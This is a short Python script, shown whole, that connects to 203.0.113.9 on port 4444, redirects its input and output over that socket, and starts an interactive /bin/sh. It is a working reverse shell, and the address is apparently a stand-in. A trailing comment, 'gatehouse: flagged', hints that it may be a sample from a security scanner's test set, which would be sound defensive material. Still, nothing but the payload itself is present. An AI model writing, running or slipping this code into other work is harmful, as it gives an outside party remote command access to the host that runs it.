import os
import socket
import subprocess

connection = socket.socket()
connection.connect(("203.0.113.9", 4444))
os.dup2(connection.fileno(), 0)
os.dup2(connection.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])  # gatehouse: flagged
